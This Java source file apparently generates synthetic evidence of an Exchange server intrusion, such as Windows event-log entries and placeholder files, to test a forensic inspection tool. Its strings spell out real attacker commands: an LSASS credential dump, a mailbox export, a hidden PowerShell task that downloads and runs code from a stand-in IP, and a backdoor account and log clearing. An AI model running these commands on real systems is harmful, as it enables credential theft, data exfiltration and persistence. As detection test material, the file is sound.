package org.wachtpost.inspect.generator;

import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.Random;

/** What intruders do once a shell answers: look around, take passwords, mail, stay. */
final class Aftermath {
  private static final String WORKER = "C:\\Windows\\System32\\inetsrv\\w3wp.exe";
  private final Site site;
  private final Planting planting;

  Aftermath(Site site, Planting planting) {
    this.site = site;
    this.planting = planting;
  }

  void commands(Instant time) {
    String cmd = "C:\\Windows\\System32\\cmd.exe";
    run(time, WORKER, cmd, "cmd.exe /c whoami");
    run(time.plusSeconds(4), cmd, "C:\\Windows\\System32\\whoami.exe", "whoami");
    run(
        time.plusSeconds(31),
        WORKER,
        cmd,
        "cmd.exe /c net group \"Exchange Organization administrators\" administrator /del /domain");
  }

  void passwords(Instant time) {
    run(
        time,
        WORKER,
        "C:\\Windows\\System32\\cmd.exe",
        "cmd.exe /c rundll32.exe C:\\windows\\System32\\comsvcs.dll MiniDump 640"
            + " C:\\Windows\\Temp\\lsass.dmp full");
    planting.files.put("C/Windows/Temp/lsass.dmp", start("MDMP\u0093\u00a7", 70_000));
  }

  void mail(Instant time) {
    String mailbox = site.people.getFirst().smtp();
    String parameters =
        "-Mailbox \"" + mailbox + "\" -FilePath \"\\\\127.0.0.1\\c$\\ProgramData\\it.pst\"";
    cmdlet(time, "New-MailboxExportRequest", parameters);
    cmdlet(
        time.plusSeconds(600),
        "Remove-MailboxExportRequest",
        "-Identity \"" + mailbox + "\\MailboxExport\" -Confirm \"False\"");
    planting.files.put("C/ProgramData/it.zip", start("PK\u0003\u0004", 90_000));
  }

  void stay(Instant time) {
    planting.event(
        time,
        EventLogs.SECURITY,
        EventLogs.named(
            "Microsoft-Windows-Security-Auditing",
            EventLogs.SECURITY,
            time,
            4_720,
            0,
            "TargetUserName",
            "exsvc",
            "TargetDomainName",
            site.netbios,
            "SubjectUserName",
            site.server + "$"));
    Instant next = time.plusSeconds(20);
    planting.event(
        next,
        EventLogs.SECURITY,
        EventLogs.named(
            "Microsoft-Windows-Security-Auditing",
            EventLogs.SECURITY,
            next,
            4_728,
            0,
            "MemberName",
            "CN=exsvc",
            "TargetUserName",
            "Exchange Organization Administrators",
            "SubjectUserName",
            site.server + "$"));
    planting.files.put(
        "C/Windows/System32/Tasks/Winnet",
        ServerFiles.taskXml(
            time,
            "Winnet",
            site.netbios + "\\" + site.server + "$",
            "powershell.exe",
            "-nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString("
                + "'http://203.0.113.50/update')\""));
    Instant task = time.plusSeconds(40);
    planting.event(
        task,
        EventLogs.SECURITY,
        EventLogs.named(
            "Microsoft-Windows-Security-Auditing",
            EventLogs.SECURITY,
            task,
            4_698,
            0,
            "TaskName",
            "\\Winnet",
            "SubjectUserName",
            site.server + "$",
            "TaskContent",
            "<Exec><Command>powershell.exe</Command></Exec>"));
    Instant service = time.plusSeconds(60);
    planting.event(
        service,
        EventLogs.SYSTEM,
        EventLogs.named(
            "Service Control Manager",
            EventLogs.SYSTEM,
            service,
            7_045,
            4,
            "ServiceName",
            "WinUpdateHelper",
            "ImagePath",
            "C:\\Users\\Public\\opera\\opera_browser.exe",
            "ServiceType",
            "user mode service",
            "StartType",
            "auto start",
            "AccountName",
            "LocalSystem"));
  }

  void virusScannerSees(Instant time, String path) {
    planting.event(
        time,
        EventLogs.DEFENDER,
        EventLogs.named(
            "Microsoft-Windows-Windows Defender",
            EventLogs.DEFENDER,
            time,
            1_116,
            3,
            "Product Name",
            "Windows Defender Antivirus",
            "Threat Name",
            "Backdoor:JS/Chopper",
            "Severity Name",
            "Severe",
            "Path",
            "file:_" + path,
            "Process Name",
            "Unknown"));
  }

  void clearLogs(Instant time) {
    planting.eventLogsClearedAt = time;
    planting.event(
        time,
        EventLogs.SECURITY,
        EventLogs.userData(
            EventLogs.SECURITY,
            time,
            1_102,
            "LogFileCleared",
            "SubjectUserName",
            "SYSTEM",
            "SubjectDomainName",
            "NT AUTHORITY"));
    planting.event(
        time,
        EventLogs.SYSTEM,
        EventLogs.userData(
            EventLogs.SYSTEM,
            time,
            104,
            "LogFileCleared",
            "SubjectUserName",
            "SYSTEM",
            "SubjectDomainName",
            "NT AUTHORITY",
            "Channel",
            "System",
            "BackupPath",
            ""));
  }

  /** A cmdlet in both of its logs. */
  void cmdlet(Instant time, String cmdlet, String parameters) {
    planting.event(
        time,
        EventLogs.MANAGEMENT,
        EventLogs.cmdletEvent(
            site,
            time,
            1,
            cmdlet,
            parameters,
            site.domain + "/Users/Administrator",
            "Remote-ManagementShell-Unknown",
            "MSExchangePowerShellAppPool"));
    planting.cmdlets.add(
        new Planting.Row(
            time,
            OtherLogs.cmdletRow(
                site,
                time,
                cmdlet,
                parameters,
                site.netbios + "\\Administrator",
                "Remote-ManagementShell-Unknown")));
  }

  void run(Instant time, String parent, String program, String commandLine) {
    planting.event(
        time,
        EventLogs.SECURITY,
        EventLogs.process(time, site.server + "$", parent, program, commandLine));
  }

  private static byte[] start(String magic, int size) {
    byte[] bytes = new byte[size];
    new Random(magic.hashCode()).nextBytes(bytes);
    byte[] head = magic.getBytes(StandardCharsets.ISO_8859_1);
    System.arraycopy(head, 0, bytes, 0, head.length);
    return bytes;
  }
}
